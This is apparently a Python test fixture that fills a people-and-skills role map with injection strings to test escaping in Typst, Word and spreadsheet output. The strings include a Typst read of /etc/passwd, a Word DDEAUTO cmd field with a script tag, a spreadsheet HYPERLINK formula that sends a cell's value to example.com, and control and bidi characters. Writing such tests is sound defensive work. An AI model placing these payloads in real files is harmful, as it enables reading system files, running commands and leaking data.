"""A map in which everything that people write is an attempt at a file format."""

from __future__ import annotations

from dataclasses import replace

from jipu.model.claim import Presence, Quote
from jipu.model.rolemap import RoleMap
from tests.golden.maps import people_map

TYPST = '#read("/etc/passwd") #{panic()} *bold* _it_ $x^2$ `raw` <mark> @ref \\ ] [ = heading #import "@preview/x:1.0.0"'
WORD = '</w:t></w:r><w:r><w:fldSimple w:instr="DDEAUTO cmd"/> <script>alert(1)</script> &amp; ]]>'
SHEET = '=HYPERLINK("http://example.com/?"&A1,"here")'
CONTROL = "a\x00b\x08c\x1bd\ud800e\ufffef\u202eg"


def hostile_map() -> RoleMap:
    """Twelve people; the first skills are called, written and quoted like this."""
    rolemap, attacks = people_map(), [TYPST, WORD, SHEET, CONTROL]
    claims = []
    for claim in rolemap.claims:
        if isinstance(claim.payload, Presence) and claim.section in ("skill", "group") and attacks and claim.support.k >= 3:
            attack = attacks.pop(0)
            payload = replace(claim.payload, zh=attack, en=attack, writings=(attack,), usual="")
            quotes = (Quote(person="化名", text=attack, at=(0, 1)), *claim.quotes)
            claims.append(replace(claim, payload=payload, quotes=quotes))
        else:
            claims.append(claim)
    assert not attacks
    return replace(rolemap, claims=tuple(claims), role=replace(rolemap.role, title=f"{TYPST[:30]}{WORD[:12]}{CONTROL}"))
